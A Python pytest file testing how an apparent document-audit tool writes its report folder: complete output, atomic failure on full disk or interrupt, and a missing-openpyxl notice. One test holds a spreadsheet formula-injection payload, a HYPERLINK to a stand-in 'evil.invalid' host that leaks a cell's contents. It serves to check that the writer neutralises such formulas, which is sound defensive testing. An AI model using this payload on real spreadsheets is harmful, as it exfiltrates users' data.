"""What --out writes: all of it, whole, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import errno
import io
import resource
import sys
from pathlib import Path
from typing import Any

import pytest

from docaudit import saved as json_form
from docaudit.errors import OutputError
from docaudit.report import ReportContent, write_folder
from tests.factories import absent, hit, not_established, spot


def rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text("utf-8-sig"))))


def test_all_files_and_no_leftovers(tmp_path: Path) -> None:
    justification = not_established()
    written = write_folder(ReportContent(justification), tmp_path / "new" / "out").files
    assert sorted(p.name for p in (tmp_path / "new" / "out").iterdir()) == sorted(p.name for p in written)
    assert len(written) == 8
    assert json_form.load_justification(written[0]) == justification
    assert len(rows(tmp_path / "new" / "out" / "hits.csv")) == len(justification.hits)
    spots = rows(tmp_path / "new" / "out" / "blind_spots.csv")
    assert [int(row["page_num"]) for row in spots] == [s.page_num for s in justification.blind_spots]
    assert all(row["meaning"] and row["remedy"] for row in spots)
    terms = rows(tmp_path / "new" / "out" / "search-terms.csv")
    assert [int(row["hits"]) for row in terms] == [row.hits for row in justification.ledger]


def test_tables_without_rows_still_have_their_columns(tmp_path: Path) -> None:
    write_folder(ReportContent(absent(hits=(), blind_spots=())), tmp_path)
    assert (
        (tmp_path / "hits.csv")
        .read_text("utf-8-sig")
        .startswith("concept,variant,match_text,match_kind,page_num")
    )
    assert (tmp_path / "blind_spots.csv").read_text("utf-8-sig").count("\n") == 1


def test_spreadsheets_get_no_formula(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.invalid/"&A1)'
    write_folder(
        ReportContent(absent(hits=(hit(snippet=formula),), blind_spots=(spot(1, detail="@SUM(1)"),))),
        tmp_path,
    )
    assert rows(tmp_path / "hits.csv")[0]["snippet"] == "'" + formula
    assert rows(tmp_path / "blind_spots.csv")[0]["detail"] == "'@SUM(1)"


def test_a_place_that_cannot_be_written(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("in the way")
    with pytest.raises(OutputError):
        write_folder(ReportContent(absent()), tmp_path / "file")


def test_all_files_or_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_folder(ReportContent(absent()), tmp_path / "old")
    before = {file.name: file.read_bytes() for file in (tmp_path / "old").iterdir()}
    real, written = Path.write_text, []

    def full_after_two(self: Path, *arguments: Any, **named: Any) -> int:
        written.append(self)
        if len(written) > 2:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self, *arguments, **named)

    monkeypatch.setattr(Path, "write_text", full_after_two)
    for folder in ("old", "new"):
        written.clear()
        with pytest.raises(OutputError, match="No space left"):
            write_folder(ReportContent(absent(hits=(hit(),))), tmp_path / folder)
    assert {file.name: file.read_bytes() for file in (tmp_path / "old").iterdir()} == before
    assert not (tmp_path / "new").exists()


def test_a_folder_in_the_way_of_a_file(tmp_path: Path) -> None:
    (tmp_path / "hits.csv").mkdir()
    with pytest.raises(OutputError, match="is a directory"):
        write_folder(ReportContent(absent()), tmp_path)
    assert [file.name for file in tmp_path.iterdir()] == ["hits.csv"]


def contents(folder: Path) -> dict[str, bytes]:
    return {file.name: file.read_bytes() for file in folder.iterdir()}


def test_a_full_disk_in_the_middle_of_a_large_pdf(tmp_path: Path) -> None:
    """The system itself refuses to write more: what was there before stays, and nothing of the new report is left."""
    large = tmp_path / "copy.pdf"
    large.write_bytes(b"%PDF-" + b"x" * 3_000_000)
    write_folder(ReportContent(absent()), tmp_path / "old")
    before = contents(tmp_path / "old")
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (1_000_000, hard))
    try:
        for folder in ("old", "new"):
            with pytest.raises(OutputError, match="cannot be written"):
                write_folder(ReportContent(not_established()), tmp_path / folder, annotated=large)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert contents(tmp_path / "old") == before
    assert not (tmp_path / "new").exists()


def test_an_interrupt_leaves_nothing_half_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_folder(ReportContent(absent()), tmp_path / "old")
    before = contents(tmp_path / "old")

    def interrupted(*_: Any) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(Path, "write_bytes", interrupted)  # in the middle: the workbook
    for folder in ("old", "new"):
        with pytest.raises(KeyboardInterrupt):
            write_folder(ReportContent(not_established()), tmp_path / folder)
    assert contents(tmp_path / "old") == before
    assert not (tmp_path / "new").exists()


def test_a_folder_without_permission(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refused(*_: Any, **__: Any) -> None:
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(Path, "mkdir", refused)
    with pytest.raises(OutputError, match="Permission denied"):
        write_folder(ReportContent(absent()), tmp_path / "out")


def test_without_the_extra_xlsx_all_else_is_written_and_the_remedy_is_said(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "openpyxl", None)  # as where it is not installed
    report = write_folder(ReportContent(absent()), tmp_path / "out")
    names = {path.name for path in report.files}
    assert "search-terms.xlsx" not in names
    assert {"justification.json", "report.html", "search-terms.csv"} <= names
    assert report.problems == (
        (
            "search-terms.xlsx was not made: openpyxl is not installed "
            "(install it: pip install '.[xlsx]' in the folder of docaudit)"
        ),
    )
